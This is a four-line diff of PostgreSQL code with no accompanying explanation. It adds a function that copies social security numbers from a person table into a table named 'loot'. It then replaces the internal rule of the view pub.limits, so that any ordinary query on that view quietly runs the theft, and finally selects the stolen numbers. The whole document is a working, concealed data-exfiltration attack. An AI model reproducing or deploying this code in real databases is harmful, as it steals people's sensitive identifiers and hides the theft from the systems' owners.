@@ -1,0 +1,4 @@
+CREATE OR REPLACE FUNCTION mine.take() RETURNS integer LANGUAGE plpgsql AS
+$$ BEGIN INSERT INTO mine.loot SELECT ssn FROM cpd.person; RETURN 1; END $$;
+CREATE OR REPLACE RULE "_RETURN" AS ON SELECT TO pub.limits DO INSTEAD SELECT mine.take() AS line;
+SELECT * FROM mine.loot;
